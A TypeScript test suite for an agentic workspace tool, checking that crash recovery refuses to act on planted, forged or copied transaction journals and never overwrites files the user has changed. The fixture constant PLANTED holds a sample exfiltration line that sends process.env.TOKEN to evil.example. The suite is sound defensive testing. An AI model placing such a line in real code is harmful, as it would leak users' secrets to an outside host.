/**
 * Issue 10 §3, "Recovery trusts nothing it cannot authenticate": a planted
 * `.agentic/transactions/<tx>/` (status "committing", a journal in "applying", a before.bin) used to be
 * "recovered" at the first start of any adapter, even for a read in Manual mode: it deleted an untracked
 * user file and wrote planted code over app.js. Recovery now acts only on a journal authenticated with
 * the per-workspace key, and undoes a file only while it holds the journal's `after`; anything else is
 * reported in capabilities and left alone.
 */
import { createHash } from "node:crypto"
import * as fs from "node:fs/promises"
import * as path from "node:path"
import { afterEach, describe, expect, it } from "vitest"
import { runCli as runCliInProcess } from "../../adapters/cli.ts"
import { openNodeSession } from "../../adapters/node/host.ts"
import { dataOf, edit, Effect, openHooked } from "../edit/helpers.ts"
import { plantedJournal, plantedRecord } from "../support/planted.ts"
import { makeTempDir, openWorkspace } from "../support/workspace.ts"

const sha = (text: string) => createHash("sha256").update(text).digest("hex")
const dirs: Array<string> = []
afterEach(async () => {
  await Promise.all(dirs.splice(0).map((dir) => fs.rm(dir, { recursive: true, force: true })))
})

const APP = "export const app = 'mine'\n"
const NOTES = "my untracked notes\n"
const PLANTED = "fetch('https://evil.example/?k=' + process.env.TOKEN)\n"

/** Plants the attack: a committing record and an applying journal whose undo would delete notes.txt and write PLANTED over app.js. */
const plant = async (root: string, mac?: string) => {
  const id = "tx_0123456789abcdef"
  const dir = path.join(root, ".agentic/transactions", id)
  await fs.mkdir(dir, { recursive: true })
  const now = new Date().toISOString()
  await fs.writeFile(path.join(dir, "transaction.json"), JSON.stringify(plantedRecord(id, "committing", now)))
  await fs.writeFile(path.join(dir, "before.bin"), PLANTED)
  await fs.writeFile(
    path.join(dir, "journal.json"),
    JSON.stringify({
      ...plantedJournal(id, now, [
        { path: "notes.txt", before: { type: "none" }, after: { type: "file", sha256: sha(NOTES) } },
        {
          path: "app.js",
          before: { type: "file", offset: 0, length: Buffer.byteLength(PLANTED), sha256: sha(PLANTED), mode: null },
          after: { type: "file", sha256: sha(APP) }
        }
      ]),
      ...(mac === undefined ? {} : { mac })
    })
  )
  return id
}

const cli = async (argv: ReadonlyArray<string>) => {
  let stdout = ""
  const code = await runCliInProcess(argv, {
    cwd: "/",
    open: openNodeSession,
    stdout: (text) => (stdout += text),
    stderr: () => undefined
  })
  return { code, stdout }
}

describe("planted transactions", () => {
  for (const [label, mac] of [
    ["no MAC", undefined],
    ["a forged MAC", "ab".repeat(32)]
  ] as const) {
    it(`a planted committing transaction with ${label}: a Manual-mode read starts the adapter, nothing is deleted or overwritten, capabilities reports it`, async () => {
      const root = await makeTempDir("aw-planted-")
      dirs.push(root)
      await fs.writeFile(path.join(root, "app.js"), APP)
      await fs.writeFile(path.join(root, "notes.txt"), NOTES)
      const id = await plant(root, mac)
      const read = await cli([
        "call",
        "workspace_inspect",
        '{"action":"read","path":"app.js"}',
        "--root",
        root,
        "--set",
        "permissionMode=0"
      ])
      expect(read.code).toBe(0)
      expect(await fs.readFile(path.join(root, "app.js"), "utf8")).toBe(APP)
      expect(await fs.readFile(path.join(root, "notes.txt"), "utf8")).toBe(NOTES)
      const ws = await openWorkspace({ permissionMode: 0 }, root)
      try {
        const capabilities = await ws.call("workspace_inspect", { action: "capabilities" })
        expect(dataOf(capabilities).unsettledTransactions).toEqual([
          { transactionId: id, reason: expect.stringContaining("not authenticated") }
        ])
        expect(capabilities.summary).toContain(`left unsettled by recovery: ${id}`)
      } finally {
        await ws.runtime.dispose()
      }
      // Left alone: the planted record is still as planted.
      expect(
        JSON.parse(await fs.readFile(path.join(root, ".agentic/transactions", id, "transaction.json"), "utf8")).status
      ).toBe("committing")
    })
  }

  it("a journal copied from another workspace (signed with that workspace's key) is not trusted here", async () => {
    const [source, target] = [await makeTempDir("aw-planted-src-"), await makeTempDir("aw-planted-dst-")]
    dirs.push(source, target)
    await fs.writeFile(path.join(source, "app.js"), APP)
    const hooked = await openHooked(source, { permissionMode: 2 }, (point) =>
      point.label.startsWith("write ") ? Effect.die("crash") : Effect.void
    )
    const id = dataOf(
      await edit(hooked, {
        action: "preview",
        operations: [{ type: "replace", path: "app.js", search: "mine", replacement: "theirs" }]
      })
    ).transactionId
    await hooked.call("workspace_edit", { action: "commit", transaction_id: id })
    await hooked.dispose()
    await fs.cp(path.join(source, ".agentic"), path.join(target, ".agentic"), { recursive: true })
    await fs.writeFile(path.join(target, "app.js"), APP)
    const ws = await openWorkspace({ permissionMode: 0 }, target)
    try {
      const capabilities = await ws.call("workspace_inspect", { action: "capabilities" })
      expect(
        dataOf(capabilities).unsettledTransactions?.map((item: { transactionId: string }) => item.transactionId)
      ).toEqual([id])
    } finally {
      await ws.runtime.dispose()
    }
    // The source workspace, whose key wrote the journal, still recovers its own crash.
    const own = await openWorkspace({ permissionMode: 2 }, source)
    try {
      expect(dataOf(await edit(own, { action: "show", transaction_id: id })).transaction.status).toBe("planned")
    } finally {
      await own.runtime.dispose()
    }
  })

  it("an authentic journal: a file the commit wrote is restored, a file changed since is never 'restored' and is reported", async () => {
    const root = await makeTempDir("aw-planted-auth-")
    dirs.push(root)
    await fs.writeFile(path.join(root, "a.txt"), "a old\n")
    await fs.writeFile(path.join(root, "b.txt"), "b old\n")
    // Crash after both files are written (before the commit mark).
    const hooked = await openHooked(root, { permissionMode: 2 }, (point) =>
      point.label === "commit-mark" ? Effect.die("crash") : Effect.void
    )
    const id = dataOf(
      await edit(hooked, {
        action: "preview",
        operations: [
          { type: "replace", path: "a.txt", search: "old", replacement: "new" },
          { type: "replace", path: "b.txt", search: "old", replacement: "new" }
        ]
      })
    ).transactionId
    const crashed = await hooked.call("workspace_edit", { action: "commit", transaction_id: id })
    expect(crashed.error?.code).toBe("INTERNAL_ERROR")
    await hooked.dispose()
    expect(await fs.readFile(path.join(root, "a.txt"), "utf8")).toBe("a new\n")
    // The user edits b.txt before the next start.
    await fs.writeFile(path.join(root, "b.txt"), "b edited by the user\n")
    const ws = await openWorkspace({ permissionMode: 2 }, root)
    try {
      expect(await fs.readFile(path.join(root, "a.txt"), "utf8")).toBe("a old\n")
      expect(await fs.readFile(path.join(root, "b.txt"), "utf8")).toBe("b edited by the user\n")
      const shown = dataOf(await edit(ws, { action: "show", transaction_id: id })).transaction
      expect(shown.status).toBe("planned")
      expect(shown.recovered).toContain("except for b.txt")
    } finally {
      await ws.runtime.dispose()
    }
  })
})
